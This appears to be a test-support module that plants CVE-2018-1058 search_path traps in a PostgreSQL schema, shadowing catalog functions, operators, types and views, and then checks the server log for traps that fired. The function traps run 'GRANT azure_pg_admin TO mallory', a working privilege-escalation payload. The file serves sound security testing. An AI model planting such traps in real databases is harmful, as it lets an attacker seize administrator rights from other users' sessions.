/**
 * Traps: functions, operators, domains and views that have the names of PostgreSQL's own. Each writes a line into the server's
 * log when it runs and tries to make its owner an administrator, as the attack of CVE-2018-1058 does.
 */
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Emulator } from '../../emulator/index.ts'
import { logSince } from '../support/support.ts'

const folder = join(import.meta.dirname, '..', '..', 'src')
const sources = readdirSync(folder, { recursive: true, encoding: 'utf8' })
  .filter((file) => file.endsWith('.ts'))
  .map((file) => readFileSync(join(folder, file), 'utf8'))
  .join('\n')

/** Every possible name in SQL of the action; the catalog decides which of them are names. New uses are found automatically. */
export const wordsOfSources: readonly string[] = [...new Set(sources.match(/\b[a-z_][a-z_0-9]*\b/g) ?? [])]

/** Runs in a plpgsql block; `made` counts, and what cannot be made (pseudo types, for one) is left out. */
const planting = `
DECLARE
  schema text := 'SCHEMA';
  words text[] := 'WORDS';
  types oid[] := ARRAY['text', 'name', 'oid', 'int4', 'int8', 'bool', 'float8', '"char"', 'jsonb', 'text[]', 'real[]', 'oid[]']::regtype[]::oid[];
  each record;
  number int := 0;
BEGIN
  FOR each IN
    -- Exactly as in pg_catalog: called where this schema comes first.
    SELECT DISTINCT p.proname AS name, p.proargtypes::oid[] AS args, p.prorettype AS result, p.proretset AS is_set FROM pg_proc AS p
    WHERE p.pronamespace = 'pg_catalog'::regnamespace AND (p.prokind <> 'a' OR p.pronargs > 0)
    UNION ALL
    -- As arguments of other types would be preferred: called where pg_catalog comes first.
    SELECT n.name, a.args, 'text'::regtype, false
    FROM (SELECT DISTINCT proname AS name FROM pg_proc WHERE pronamespace = 'pg_catalog'::regnamespace AND proname = ANY (words)) AS n
    CROSS JOIN (
      SELECT ARRAY[one] AS args FROM unnest(types) AS one
      UNION ALL SELECT ARRAY[one, two] FROM unnest(types) AS one, unnest(types) AS two) AS a
    WHERE EXISTS (SELECT FROM pg_proc WHERE pronamespace = 'pg_catalog'::regnamespace AND proname = n.name AND pronargs = cardinality(a.args))
      AND NOT EXISTS (SELECT FROM pg_proc WHERE pronamespace = 'pg_catalog'::regnamespace AND proname = n.name AND proargtypes::oid[] = a.args)
  LOOP
    BEGIN
      EXECUTE format('CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', schema, each.name,
        (SELECT string_agg(format_type(t, NULL), ', ' ORDER BY i) FROM unnest(each.args) WITH ORDINALITY AS u(t, i)),
        CASE WHEN each.is_set THEN 'SETOF ' ELSE '' END || format_type(each.result, NULL),
        format('BEGIN RAISE LOG %L; BEGIN EXECUTE %L; EXCEPTION WHEN OTHERS THEN NULL; END; RETURN%s; END',
          'planted: function ' || schema || '.' || each.name, 'GRANT azure_pg_admin TO mallory',
          CASE WHEN each.is_set OR each.result = 'void'::regtype THEN '' ELSE ' NULL' END));
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  FOR each IN
    SELECT o.oprname AS name, o.oprleft AS one, o.oprright AS two, o.oprresult AS result FROM pg_operator AS o
    WHERE o.oprnamespace = 'pg_catalog'::regnamespace
    UNION ALL
    SELECT n.name, one, two, 'bool'::regtype
    FROM (VALUES ('='), ('<>'), ('<'), ('>'), ('<='), ('>='), ('~~'), ('||'), ('+'), ('-'), ('*'), ('/'), ('->'), ('->>')) AS n(name),
      unnest(types) AS one, unnest(types) AS two
    WHERE NOT EXISTS (SELECT FROM pg_operator AS o WHERE o.oprnamespace = 'pg_catalog'::regnamespace AND o.oprname = n.name AND o.oprleft = one AND o.oprright = two)
  LOOP
    BEGIN
      number := number + 1;
      EXECUTE format('CREATE FUNCTION %I.planted_%s(%s) RETURNS %s LANGUAGE plpgsql AS %L', schema, number,
        concat_ws(', ', CASE WHEN each.one <> 0 THEN format_type(each.one, NULL) END, format_type(each.two, NULL)), format_type(each.result, NULL),
        format('BEGIN RAISE LOG %L; RETURN NULL; END', 'planted: operator ' || schema || '.' || each.name));
      EXECUTE format('CREATE OPERATOR %I.%s (%sRIGHTARG = %s, FUNCTION = %I.planted_%s)', schema, each.name,
        CASE WHEN each.one <> 0 THEN format('LEFTARG = %s, ', format_type(each.one, NULL)) ELSE '' END, format_type(each.two, NULL), schema, number);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  FOR each IN SELECT typname AS name FROM pg_type WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype IN ('b', 'r', 'm') AND typcategory <> 'A' LOOP
    BEGIN
      EXECUTE format('CREATE FUNCTION %I.planted_type_%s() RETURNS boolean LANGUAGE plpgsql AS %L', schema, each.name,
        format('BEGIN RAISE LOG %L; RETURN true; END', 'planted: type ' || schema || '.' || each.name));
      EXECUTE format('CREATE DOMAIN %I.%I AS pg_catalog.%I CHECK (%I.planted_type_%s())', schema, each.name, each.name, schema, each.name);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  FOR each IN SELECT relname AS name FROM pg_class WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v') AND relname = ANY (words) LOOP
    BEGIN
      EXECUTE format('CREATE FUNCTION %I.planted_view_%s() RETURNS boolean LANGUAGE plpgsql AS %L', schema, each.name,
        format('BEGIN RAISE LOG %L; RETURN true; END', 'planted: view ' || schema || '.' || each.name));
      EXECUTE format('CREATE VIEW %I.%I AS SELECT * FROM pg_catalog.%I WHERE %I.planted_view_%s()', schema, each.name, each.name, schema, each.name);
      EXECUTE format('GRANT SELECT ON %I.%I TO PUBLIC', schema, each.name);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END`

/** Plants all traps in a schema, as the role mallory. Returns how many of each kind there are. */
export async function plant(emulator: Emulator, database: string, schema: string): Promise<Record<string, number>> {
  const { postgres } = emulator
  const words = `{${wordsOfSources.join(',')}}`
  const block = planting.replace('SCHEMA', schema).replace('WORDS', words)
  await postgres.query(
    database,
    `SET search_path = pg_catalog; SET check_function_bodies = off; SET ROLE mallory; DO $plant$${block}$plant$`,
  )
  const [made] = await postgres.query(
    database,
    `SELECT (SELECT count(*) FROM pg_catalog.pg_proc WHERE pronamespace OPERATOR(pg_catalog.=) s.oid)::int AS functions,
  (SELECT count(*) FROM pg_catalog.pg_operator WHERE oprnamespace OPERATOR(pg_catalog.=) s.oid)::int AS operators,
  (SELECT count(*) FROM pg_catalog.pg_type WHERE typnamespace OPERATOR(pg_catalog.=) s.oid AND typtype = 'd')::int AS types,
  (SELECT count(*) FROM pg_catalog.pg_class WHERE relnamespace OPERATOR(pg_catalog.=) s.oid AND relkind = 'v')::int AS views
FROM (SELECT '${schema}'::regnamespace::oid AS oid) AS s`,
  )
  return made as Record<string, number>
}

/** Traps that ran since a position in the server's log, in sessions of others than the emulator itself; each once. */
export function sprung(emulator: Emulator, from: number): string[] {
  const found = logSince(emulator, from).matchAll(/ (\S[^@\n]*)@(.*?) LOG: {2}planted: (.*)$/gm)
  return [
    ...new Set([...found].filter(([, user]) => user !== 'azuresu').map(([, , database, trap]) => `${database}: ${trap}`)),
  ].sort()
}
